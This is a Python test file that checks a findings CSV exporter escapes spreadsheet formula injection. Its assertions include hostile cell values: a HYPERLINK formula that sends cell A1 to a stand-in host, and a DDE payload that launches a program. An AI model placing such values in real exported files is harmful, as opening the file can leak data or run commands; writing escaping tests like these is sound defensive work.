"""findings.csv: formula injection neutralised, nothing lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from falsefriends.audit.records import Findings
from falsefriends.report.csv_out import COLUMNS, findings_csv, safe_cell


@pytest.mark.parametrize("payload", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n@x"])
def test_formula_starts_are_prefixed(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Jane", "0.9", "", "a=b", "linkedin.com/in/x"])
def test_ordinary_cells_are_untouched(value: str) -> None:
    assert safe_cell(value) == value


def test_csv_has_no_cell_a_spreadsheet_would_evaluate(hostile_findings: Findings) -> None:
    rows = list(csv.reader(io.StringIO(findings_csv(hostile_findings))))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == 1 + len(hostile_findings.accounts)
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    employers = {row[2] for row in rows[1:]}
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" in employers
    assert "'+cmd|' /C calc'!A0" in employers
    names = {row[1] for row in rows[1:]}
    assert "'@SUM(1+1)" in names
    evidence = " ".join(row[-1] for row in rows[1:])
    assert "generous fee" in evidence and "M3" in evidence


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40))
def test_any_text_round_trips_through_the_csv_without_becoming_a_formula(text: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_cell(text)])
    (cell,) = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert not cell.lstrip(" \n").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell in (text, "'" + text)  # nothing lost: at most the one quote added
